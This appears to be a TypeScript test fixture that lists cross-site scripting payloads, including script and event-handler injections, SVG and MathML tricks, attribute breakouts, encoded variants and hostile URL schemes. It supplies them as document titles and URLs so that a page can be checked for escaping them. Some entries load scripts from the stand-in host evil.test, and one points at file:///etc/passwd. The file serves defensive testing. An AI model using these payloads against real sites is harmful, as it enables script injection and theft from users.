// Hostile text: one line for each way that a stranger's words became code on somebody's page. `PWN` stands for
// what would show that it ran: it sets a mark, opens a dialog, asks for an address that nobody may.

const PWN = "window.pwned=1;alert(1);new Image().src='/pwned'";

const TAGS = [
  "<script>PWN</script>",
  "<SCRIPT>PWN</SCRIPT>",
  "<script src=/pwned.js></script>",
  "<script src=//evil.test/pwned.js></script>",
  "<script>PWN//",
  "<script/x>PWN</script/x>",
  "<scr<script>ipt>PWN</scr</script>ipt>",
  "<script type=module>PWN</script>",
  '<script type=importmap>{"imports":{"/app.js":"/pwned.js"}}</script>',
  "<iframe src=javascript:PWN></iframe>",
  '<iframe srcdoc="<script>parent.PWN</script>"></iframe>',
  "<iframe src=//evil.test/pwned></iframe>",
  "<object data=javascript:PWN></object>",
  "<object data=/pwned></object>",
  "<embed src=javascript:PWN>",
  "<embed src=/pwned>",
  "<frameset onload=PWN>",
  "<applet code=pwned>",
  "<base href=//evil.test/>",
  "<meta http-equiv=refresh content='0;url=javascript:PWN'>",
  "<meta http-equiv=refresh content='0;url=/pwned'>",
  "<link rel=stylesheet href=/pwned.css>",
  "<link rel=prefetch href=/pwned>",
  "<link rel=modulepreload href=/pwned.js>",
  "<style>@import '/pwned.css';</style>",
  "<style>body{background:url(/pwned)}</style>",
  "<form action=javascript:PWN><input type=submit autofocus></form>",
  "<button form=search formaction=javascript:PWN>go</button>",
  "<isindex type=image src=1 onerror=PWN>",
  "<portal src=/pwned onload=PWN>",
];

const HANDLERS = [
  "<img src=x onerror=PWN>",
  "<img src=/pwned>",
  '<img srcset="/pwned 1x">',
  "<image src=x onerror=PWN>",
  "<img src=x:x onerror\n=PWN>",
  "<img/src=x/onerror=PWN>",
  "<img src=x onerror=\"PWN\" style='display:block'>",
  "<body onload=PWN>",
  "<body onpageshow=PWN>",
  "<input autofocus onfocus=PWN>",
  "<select autofocus onfocus=PWN>",
  "<textarea autofocus onfocus=PWN>",
  "<a autofocus tabindex=1 onfocus=PWN>x</a>",
  "<video><source onerror=PWN></video>",
  "<video src=x onerror=PWN>",
  "<video poster=/pwned></video>",
  "<audio src=x onerror=PWN>",
  "<details open ontoggle=PWN>x</details>",
  "<marquee onstart=PWN>x</marquee>",
  "<div onpointerrawupdate=PWN style='position:fixed;inset:0'>x</div>",
  "<div onmouseover=PWN style='position:fixed;inset:0'>x</div>",
  "<style onload=PWN></style>",
  "<dialog open onclose=PWN><form method=dialog><button autofocus>x</button></form></dialog>",
  "<div popover id=p onbeforetoggle=PWN>x</div><button popovertarget=p>x</button>",
  "<p style=animation-name:breathe onanimationstart=PWN>x</p>",
  "<p style='transition:color 1s' ontransitionend=PWN>x</p>",
  "<object onerror=PWN data=x></object>",
  "<track onerror=PWN>",
  "<keygen autofocus onfocus=PWN>",
];

const FOREIGN = [
  "<svg onload=PWN>",
  "<svg/onload=PWN>",
  "<svg><script>PWN</script></svg>",
  "<svg><script href=/pwned.js /></svg>",
  "<svg><animate onbegin=PWN attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:PWN /><a>x</a></svg>",
  "<svg><a xlink:href=javascript:PWN><text y=20>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=PWN>#x'></svg>",
  "<svg><foreignObject><iframe src=javascript:PWN></iframe></foreignObject></svg>",
  "<svg><image href=/pwned></svg>",
  "<math href=javascript:PWN>x</math>",
  "<math><mtext><table><mglyph><style><img src=x onerror=PWN></style></mglyph></table></mtext></math>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=PWN></annotation-xml></math>",
];

const BREAKOUTS = [
  '"><script>PWN</script>',
  "'><script>PWN</script>",
  '" onmouseover="PWN" x="',
  "' onfocus='PWN' autofocus x='",
  "` onerror=PWN `",
  "</title><script>PWN</script>",
  "</textarea><script>PWN</script>",
  "</style><script>PWN</script>",
  "</script><script>PWN</script>",
  "</mark></p></article><img src=x onerror=PWN>",
  "</bdi><img src=x onerror=PWN>",
  "--><script>PWN</script>",
  "<!--<img src='--><img src=x onerror=PWN>'>",
  "]]><script>PWN</script>",
  "<![CDATA[<img src=x onerror=PWN>]]>",
  "';PWN;//",
  '";PWN;//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the payload
  "${PWN}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the payload
  "`${PWN}`",
  "{{constructor.constructor('PWN')()}}",
  "{{7*7}}<%= PWN %>#{PWN}",
  "\\u003cimg src=x onerror=PWN\\u003e",
  "\u2028PWN\u2029",
];

const MUTATIONS = [
  "<noscript><p title='</noscript><img src=x onerror=PWN>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=PWN>",
  "<svg></p><style><a id='</style><img src=x onerror=PWN>'>",
  "<template><img src=x onerror=PWN></template>",
  "<div><template shadowrootmode=open><img src=x onerror=PWN></template></div>",
  "<xmp><p title='</xmp><img src=x onerror=PWN>'>",
  "<select><style><img src=x onerror=PWN></style></select>",
  "<listing>&lt;img src=x onerror=PWN&gt;</listing>",
  "<table><td background=/pwned>",
];

const ENCODED = [
  "&lt;script&gt;PWN&lt;/script&gt;",
  "&#60;img src=x onerror=PWN&#62;",
  "&#x3c;img src=x onerror=PWN&#x3e;",
  "%3Cscript%3EPWN%3C/script%3E",
  "+ADw-script+AD4-PWN+ADw-/script+AD4-",
  "\u00bcscript\u00bePWN\u00bc/script\u00be",
  "\uff1cscript\uff1ePWN\uff1c/script\uff1e",
  "<\u0000script>PWN</script>",
  "<img src=x one\u0000rror=PWN>",
  "\u202e<script>PWN</script>\u202c",
  "<ſcript>PWN</ſcript>",
  "\ud800<img src=x onerror=PWN>\udc00",
];

const CLOBBERS = [
  "<form id=q><input name=value></form>",
  "<a id=results><a id=results name=textContent href=x>",
  "<img name=getElementById>",
  "<form name=location></form>",
  "__proto__",
  "constructor",
  "[object Object]",
  "toString",
];

/** Addresses; a click on the hit that has one must never run it. */
const ADDRESSES = [
  "javascript:PWN",
  "JaVaScRiPt:PWN",
  " javascript:PWN",
  "\u0001javascript:PWN",
  "java\nscript:PWN",
  "java\tscript:PWN",
  "javascript\n:PWN",
  "javascript://example.com/%0aPWN",
  "javascript:/*--></title></style><svg/onload=PWN>*/",
  "data:text/html,<script>PWN</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://example.com/1",
  "filesystem:https://example.com/x",
  "view-source:https://example.com/",
  "about:blank",
  "intent://x#Intent;scheme=javascript;end",
  "https://user:pass@example.com/",
  "//evil.test/pwned",
  "/pwned",
  'https://example.com/"onmouseover=PWN x="',
  "https://example.com/'><img src=x onerror=PWN>",
];

const armed = (text: string) => text.replaceAll("PWN", PWN);

/** Addresses to be given as a document's URL. */
export const HOSTILE_URLS = ADDRESSES.map(armed);

/** Every payload, addresses included: they too come as titles. */
export const PAYLOADS = [
  ...TAGS,
  ...HANDLERS,
  ...FOREIGN,
  ...BREAKOUTS,
  ...MUTATIONS,
  ...ENCODED,
  ...CLOBBERS,
  ...ADDRESSES,
].map(armed);
